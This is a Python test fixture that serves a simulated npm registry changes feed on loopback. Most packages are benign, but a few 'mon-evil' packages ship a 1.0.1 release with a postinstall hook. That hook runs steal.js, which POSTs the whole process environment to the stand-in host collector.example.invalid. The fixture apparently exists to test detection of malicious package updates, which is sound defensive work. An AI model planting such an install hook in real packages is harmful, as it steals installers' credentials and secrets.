"""A recorded-style npm changes feed with its packuments and tarballs, served on loopback:
ordinary packages, and a few whose latest patch release turns into an (inert) stealer."""

from __future__ import annotations

import json
import random
from dataclasses import dataclass
from typing import Any

from support.registry_server import RegistryServer, make_tgz, sri

PAGE = 100
OLD = {"1.0.0": "2025-01-01T00:00:00.000Z", "1.0.1": "2025-02-01T00:00:00.000Z"}


def benign(name: str, version: str) -> dict[str, bytes]:
    manifest = {"name": name, "version": version, "main": "index.js", "license": "MIT",
                "description": "pads strings", "repository": "example/pad"}  # fmt: skip
    return {
        "package.json": json.dumps(manifest).encode(),
        "index.js": b"module.exports = (s, n) => String(s).padStart(n)\n",
        "README.md": b"# pad\n",
    }


def stealer(name: str, version: str) -> dict[str, bytes]:
    files = benign(name, version)
    manifest = json.loads(files["package.json"])
    manifest["scripts"] = {"postinstall": "node steal.js"}
    files["package.json"] = json.dumps(manifest).encode()
    files["steal.js"] = (
        b"const https = require('https')\n"
        b"https.request({ hostname: 'collector.example.invalid', method: 'POST' })"
        b".end(JSON.stringify(process.env))\n"
    )
    return files


@dataclass
class Feed:
    url: str  # the _changes endpoint
    names: list[str]
    malicious: list[str]
    events: int


def serve_feed(
    server: RegistryServer, n_benign: int = 40, n_bad: int = 4, events: int = 300
) -> Feed:
    names = [f"mon-pad-{i}" for i in range(n_benign)]
    bad = [f"mon-evil-{i}" for i in range(n_bad)]
    for name in names + bad:
        doc: dict[str, Any] = {"name": name, "versions": {}, "time": {"created": OLD["1.0.0"]}}
        for version in OLD:
            make = stealer if name in bad and version == "1.0.1" else benign
            tgz = make_tgz(make(name, version))
            path = f"/{name}/-/{name}-{version}.tgz"
            server.bytes(path, tgz)
            doc["versions"][version] = {
                **json.loads(make(name, version)["package.json"]),
                "dist": {"tarball": server.url + path[1:], "integrity": sri(tgz)},
                "_npmUser": {"name": "maintainer", "email": "maintainer@example.invalid"},
            }
            doc["time"][version] = OLD[version]
        doc["dist-tags"] = {"latest": "1.0.1"}
        doc["maintainers"] = [{"name": "maintainer", "email": "maintainer@example.invalid"}]
        server.json(f"/{name}", doc)
    rng = random.Random(7)
    order = names + bad + [rng.choice(names + bad) for _ in range(events - len(names) - len(bad))]
    rng.shuffle(order)
    for start in range(0, events + 1, PAGE):
        rows = [{"seq": s + 1, "id": order[s], "changes": [{"rev": "1-a"}]}
                for s in range(start, min(start + PAGE, events))]  # fmt: skip
        last = rows[-1]["seq"] if rows else start
        server.json(f"/_changes?since={start}&limit={PAGE}", {"results": rows, "last_seq": last})
    return Feed(server.url + "_changes", names, bad, events)
